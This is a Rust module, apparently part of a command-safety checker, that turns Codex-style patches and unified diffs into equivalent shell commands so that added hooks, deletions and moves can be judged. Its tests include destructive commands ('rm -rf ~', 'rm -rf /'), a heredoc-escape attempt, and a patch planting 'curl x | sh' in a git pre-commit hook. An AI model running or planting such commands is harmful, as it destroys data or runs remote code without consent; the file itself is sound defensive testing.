//! Codex's patch format (`*** Begin Patch` … `*** End Patch`, the `apply_patch` tool and
//! command) and unified diffs (`git diff`, `diff -u`: a `diff` or `patch` argument, `git
//! apply`'s input): each file the patch adds, updates, moves or deletes is judged as the
//! shell commands that would do the same, so a hook, a startup file or a deletion counts as
//! it would in a command line.

use super::shell::{self, Sh};
use super::{Ctx, prefix};
use crate::Effect::Mutating;

mod lenient;
pub(crate) mod operation;

const BEGIN: &str = "*** Begin Patch";

/// True if the text may be a patch in a spelling the strict reading rejects (a tool that
/// applies patches judges it as [`lenient`] rewrites it).
pub(crate) fn loosely(text: &str) -> bool {
    lenient::maybe(text)
}

/// Judges the strict forms of a loosely spelt patch (only raises).
pub(crate) fn judge_lenient(ctx: &mut Ctx, text: &str, depth: usize) {
    let strict = lenient::patches(text);
    if strict.is_empty() {
        return;
    }
    let cp = ctx.checkpoint();
    for p in strict {
        if let Some(script) = as_script(&p) {
            ctx.via("a patch in a loose spelling", |ctx| {
                shell::analyse(ctx, &script, depth + 1)
            });
        }
    }
    ctx.forget_reads_since(&cp);
}

/// True if the text is a patch in this format.
pub(crate) fn is_patch(text: &str) -> bool {
    text.trim_start().starts_with(BEGIN)
}

/// True if the text is a unified diff: it starts with its header (`diff …`, `--- `,
/// `Index: `), and holds a `diff --git` line or a `--- ` line followed by a `+++ ` line. (A
/// diff inside other text, a here document in a command line, is that text's.)
pub(crate) fn is_unified(text: &str) -> bool {
    let first = text.trim_start().lines().next().unwrap_or("");
    ["diff ", "--- ", "Index: "]
        .iter()
        .any(|h| first.starts_with(h))
        && holds_diff(text)
}

/// True if the text holds a unified diff anywhere (`git apply` and `git am` skip what comes
/// before it: a mail's headers, a commit message).
pub(crate) fn holds_diff(text: &str) -> bool {
    let mut prev_old = false;
    for l in text.lines() {
        if l.starts_with("diff --git ") || (prev_old && l.starts_with("+++ ")) {
            return true;
        }
        prev_old = l.starts_with("--- ");
    }
    false
}

/// A path of a unified diff's header: `a/src/x.rs` → `src/x.rs`, a timestamp after a tab cut.
fn diff_path(p: &str) -> String {
    let p = p.split('\t').next().unwrap_or(p).trim();
    let p = p.trim_matches('"');
    p.strip_prefix("a/")
        .or_else(|| p.strip_prefix("b/"))
        .unwrap_or(p)
        .to_string()
}

/// A unified diff as a shell script: `rm -f` for a file it deletes (`+++ /dev/null`,
/// `deleted file mode`), `mv -f` for a rename, `cat > P` with a new file's lines and `cat >>
/// P` with the lines a change adds. `None` when no file header is found.
fn unified_script(text: &str) -> Option<String> {
    #[derive(Default)]
    struct File<'a> {
        old: Option<String>,
        new: Option<String>,
        deleted: bool,
        created: bool,
        rename: (Option<String>, Option<String>),
        added: Vec<&'a str>,
        /// Opened by `diff --git`, its `---`/`+++` lines not seen yet.
        git_header: bool,
    }
    fn flush(script: &mut String, f: &mut File) -> bool {
        let f = std::mem::take(f);
        let dev_null = |p: &Option<String>| p.as_deref() == Some("/dev/null");
        if f.old.is_none() && f.new.is_none() && f.rename == (None, None) {
            return false;
        }
        if f.deleted || dev_null(&f.new) {
            if let Some(old) = f.old.filter(|o| o != "/dev/null") {
                script.push_str(&format!("rm -f -- {}\n", quote(&old)));
            }
            return true;
        }
        if let (Some(from), Some(to)) = &f.rename {
            script.push_str(&format!("mv -f -- {} {}\n", quote(from), quote(to)));
        }
        let Some(target) = f.new.or(f.rename.1) else {
            return true;
        };
        let redirect = if f.created || dev_null(&f.old) {
            ">"
        } else {
            ">>"
        };
        let mut tag = String::from("AIRLOCK_PATCH");
        while f.added.contains(&tag.as_str()) {
            tag.push('_');
        }
        script.push_str(&format!("cat {redirect} {} <<'{tag}'\n", quote(&target)));
        for l in f.added {
            script.push_str(l);
            script.push('\n');
        }
        script.push_str(&tag);
        script.push('\n');
        true
    }
    let mut script = String::new();
    let mut files = 0usize;
    let mut f = File::default();
    let lines: Vec<&str> = text.lines().map(|l| l.trim_end_matches('\r')).collect();
    let mut in_hunk = false;
    for (i, line) in lines.iter().enumerate() {
        let next_new = lines.get(i + 1).is_some_and(|n| n.starts_with("+++ "));
        if line.starts_with("diff --git ") || (line.starts_with("--- ") && next_new) {
            // A `--- ` header after `diff --git` belongs to the same file.
            let same = line.starts_with("--- ") && f.git_header && !in_hunk;
            if !same && flush(&mut script, &mut f) {
                files += 1;
            }
            in_hunk = false;
            if let Some(p) = line.strip_prefix("--- ") {
                f.old = Some(diff_path(p));
                f.git_header = false;
            } else if let Some(rest) = line.strip_prefix("diff --git ") {
                // `diff --git a/x b/x`: the paths when no `---`/`+++` follow (a pure rename,
                // a deletion of an empty file).
                let mut parts = rest.split_whitespace();
                let a = parts.next().map(diff_path);
                let b = parts.next().map(diff_path);
                f.old = a;
                f.new = b;
                f.git_header = true;
            }
            continue;
        }
        if let Some(p) = line.strip_prefix("+++ ").filter(|_| !in_hunk) {
            f.new = Some(diff_path(p));
            continue;
        }
        if line.starts_with("deleted file mode") {
            f.deleted = true;
        } else if line.starts_with("new file mode") {
            f.created = true;
        } else if let Some(p) = line.strip_prefix("rename from ") {
            f.rename.0 = Some(p.trim().to_string());
        } else if let Some(p) = line.strip_prefix("rename to ") {
            f.rename.1 = Some(p.trim().to_string());
        } else if line.starts_with("@@") {
            in_hunk = true;
        } else if let Some(added) = line.strip_prefix('+').filter(|_| in_hunk) {
            f.added.push(added);
        }
    }
    if flush(&mut script, &mut f) {
        files += 1;
    }
    (files > 0).then_some(script)
}

/// The patch as a shell script: `cat > P` with an added file's lines, `cat >> P` with the
/// lines an update adds, `mv` for a move and `rm -f` for a deletion. `None` when a line is
/// not of the format.
fn as_script(text: &str) -> Option<String> {
    let mut lines = text.trim().lines().map(|l| l.trim_end_matches('\r'));
    if lines.next()?.trim() != BEGIN {
        return None;
    }
    // (path, redirection, content lines), in order; moves and deletions as commands.
    let mut script = String::new();
    let mut open: Option<(String, &str, Vec<&str>)> = None;
    let mut ended = false;
    let close = |script: &mut String, open: &mut Option<(String, &str, Vec<&str>)>| {
        if let Some((path, redirect, body)) = open.take() {
            // A delimiter no line of the body equals.
            let mut tag = String::from("AIRLOCK_PATCH");
            while body.contains(&tag.as_str()) {
                tag.push('_');
            }
            script.push_str(&format!("cat {redirect} {} <<'{tag}'\n", quote(&path)));
            for l in body {
                script.push_str(l);
                script.push('\n');
            }
            script.push_str(&tag);
            script.push('\n');
        }
    };
    for line in lines {
        // Headers may be indented; an update's lines keep their first column.
        let header = line.trim_start();
        let line = if header.starts_with("***") {
            header
        } else {
            line
        };
        if ended {
            if line.trim().is_empty() {
                continue;
            }
            return None;
        }
        if line.trim() == "*** End Patch" {
            close(&mut script, &mut open);
            ended = true;
        } else if let Some(p) = line.strip_prefix("*** Add File: ") {
            close(&mut script, &mut open);
            open = Some((p.trim().to_string(), ">", Vec::new()));
        } else if let Some(p) = line.strip_prefix("*** Update File: ") {
            close(&mut script, &mut open);
            open = Some((p.trim().to_string(), ">>", Vec::new()));
        } else if let Some(p) = line.strip_prefix("*** Delete File: ") {
            close(&mut script, &mut open);
            script.push_str(&format!("rm -f -- {}\n", quote(p.trim())));
        } else if let Some(p) = line.strip_prefix("*** Move to: ") {
            // The file updated so far is written, then moved over the new path.
            let from = open.as_ref().filter(|(_, r, _)| *r == ">>")?.0.clone();
            close(&mut script, &mut open);
            script.push_str(&format!("mv -f -- {} {}\n", quote(&from), quote(p.trim())));
            open = Some((p.trim().to_string(), ">>", Vec::new()));
        } else if line == "*** End of File" || line.starts_with("@@") {
            open.as_ref()?;
        } else if let Some(added) = line.strip_prefix('+') {
            open.as_mut()?.2.push(added);
        } else if line.starts_with(['-', ' ']) || line.is_empty() {
            // Removed or context lines of an update.
            if open.as_ref()?.1 != ">>" {
                return None;
            }
        } else {
            return None;
        }
    }
    ended.then_some(script)
}

/// Single-quotes a path for the script.
fn quote(path: &str) -> String {
    format!("'{}'", path.replace('\'', r"'\''"))
}

/// A patch given as text (the `apply_patch` tool's input): at least a write, and each file
/// operation judged as its commands.
pub(crate) fn judge(ctx: &mut Ctx, text: &str, depth: usize) {
    ctx.add(Mutating, "patch: applies a patch to files");
    match as_script(text).or_else(|| unified_script(text)) {
        Some(script) => ctx.via("a patch", |ctx| shell::analyse(ctx, &script, depth + 1)),
        None => ctx.add(
            Mutating,
            format!(
                "patch: `{}` is not in the patch format (what it changes is not known)",
                prefix(text.trim(), 60)
            ),
        ),
    }
    judge_lenient(ctx, text, depth);
}

/// A unified diff applied in reverse (`git apply -R`): what it adds is removed and what it
/// removes is added, so a file it creates is deleted.
pub(crate) fn reversed(text: &str) -> String {
    let swapped: Vec<String> = text
        .lines()
        .map(|l| {
            if let Some(p) = l.strip_prefix("--- ") {
                format!("+++ {p}")
            } else if let Some(p) = l.strip_prefix("+++ ") {
                format!("--- {p}")
            } else if let Some(r) = l.strip_prefix("new file mode") {
                format!("deleted file mode{r}")
            } else if let Some(r) = l.strip_prefix("deleted file mode") {
                format!("new file mode{r}")
            } else if let Some(r) = l.strip_prefix('+') {
                format!("-{r}")
            } else if let Some(r) = l.strip_prefix('-') {
                format!("+{r}")
            } else {
                l.to_string()
            }
        })
        .collect();
    // Each file's `+++` line now comes before its `---` line: put them back in order.
    let mut out = String::with_capacity(text.len() + 16);
    let mut i = 0;
    while let Some(a) = swapped.get(i) {
        if let Some(b) = swapped.get(i + 1)
            && a.starts_with("+++ ")
            && b.starts_with("--- ")
        {
            out.push_str(b);
            out.push('\n');
            out.push_str(a);
            out.push('\n');
            i += 2;
            continue;
        }
        out.push_str(a);
        out.push('\n');
        i += 1;
    }
    out
}

/// `apply_patch PATCH` (or the patch on its input): judged as `judge` does.
pub(crate) fn run(sh: &mut Sh, text: &str, cmd: &str) {
    sh.add(Mutating, format!("{cmd} applies a patch to files"));
    match as_script(text).or_else(|| unified_script(text)) {
        Some(script) => sh.shell_text(&script, "`apply_patch`"),
        None => sh.add(
            Mutating,
            format!("{cmd}: the patch is not in the patch format (what it changes is not known)"),
        ),
    }
    let depth = sh.depth;
    judge_lenient(sh.ctx, text, depth);
}

#[cfg(test)]
mod tests {
    use super::{as_script, is_unified, unified_script};

    #[test]
    fn unified_diffs_become_commands() {
        let del = "diff --git a/src/lib.rs b/src/lib.rs\ndeleted file mode 100644\n--- a/src/lib.rs\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n";
        assert!(is_unified(del));
        assert_eq!(
            unified_script(del).as_deref(),
            Some("rm -f -- 'src/lib.rs'\n")
        );
        let bare = "--- a/db/schema.sql\n+++ /dev/null\n@@ -1 +0,0 @@\n-a";
        assert_eq!(
            unified_script(bare).as_deref(),
            Some("rm -f -- 'db/schema.sql'\n")
        );
        let change = "--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n a\n-b\n+rm -rf ~\n--- c\n";
        assert_eq!(
            unified_script(change).as_deref(),
            Some("cat >> 'x.sh' <<'AIRLOCK_PATCH'\nrm -rf ~\nAIRLOCK_PATCH\n")
        );
        let new = "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n";
        assert_eq!(
            unified_script(new).as_deref(),
            Some("cat > '.git/hooks/pre-commit' <<'AIRLOCK_PATCH'\ncurl x | sh\nAIRLOCK_PATCH\n")
        );
        let rename = "diff --git a/a.txt b/b.txt\nsimilarity index 100%\nrename from a.txt\nrename to b.txt\n";
        assert!(
            unified_script(rename).is_some_and(|s| s.starts_with("mv -f -- 'a.txt' 'b.txt'\n"))
        );
        assert!(!is_unified("--- a list\n- item\n+ plus"));
        assert!(!is_unified(
            "cat <<'EOF'\n--- a/x\n+++ /dev/null\nEOF\nrm -rf /"
        ));
        assert!(unified_script("just text").is_none());
        let mail = "From 1234 Mon Sep 17 00:00:00 2001\nSubject: x\n\ndiff --git a/x b/x\ndeleted file mode 100644\n--- a/x\n+++ /dev/null\n";
        assert!(!is_unified(mail) && super::holds_diff(mail));
        assert_eq!(unified_script(mail).as_deref(), Some("rm -f -- 'x'\n"));
        assert_eq!(
            unified_script(&super::reversed(new)).as_deref(),
            Some("rm -f -- '.git/hooks/pre-commit'\n")
        );
    }

    #[test]
    fn operations_become_commands() {
        let s = as_script(
            "*** Begin Patch\n*** Add File: a b.txt\n+x\n*** Delete File: old.rs\n\
             *** Update File: src/m.rs\n*** Move to: src/n.rs\n@@ fn x\n-a\n+b\n c\n\
             *** End Patch\n",
        )
        .unwrap_or_default();
        assert!(
            s.contains("cat > 'a b.txt' <<'AIRLOCK_PATCH'\nx\nAIRLOCK_PATCH\n"),
            "{s}"
        );
        assert!(s.contains("rm -f -- 'old.rs'\n"), "{s}");
        assert!(s.contains("mv -f -- 'src/m.rs' 'src/n.rs'\n"), "{s}");
        assert!(
            s.contains("cat >> 'src/n.rs' <<'AIRLOCK_PATCH'\nb\nAIRLOCK_PATCH\n"),
            "{s}"
        );
    }

    #[test]
    fn malformed_patches_are_not_scripts() {
        for bad in [
            "*** Begin Patch\n+x\n*** End Patch",
            "*** Begin Patch\n*** Add File: a\n+x\n",
            "*** Begin Patch\n*** Add File: a\n-x\n*** End Patch",
            "*** Begin Patch\n*** Copy File: a\n*** End Patch",
            "*** Begin Patch\n*** End Patch\nrm -rf /",
        ] {
            assert!(as_script(bad).is_none(), "{bad}");
        }
    }

    #[test]
    fn a_body_line_cannot_close_the_heredoc() {
        let s =
            as_script("*** Begin Patch\n*** Add File: a\n+AIRLOCK_PATCH\n+rm -rf /\n*** End Patch")
                .unwrap_or_default();
        assert!(s.starts_with("cat > 'a' <<'AIRLOCK_PATCH_'\n"), "{s}");
    }
}
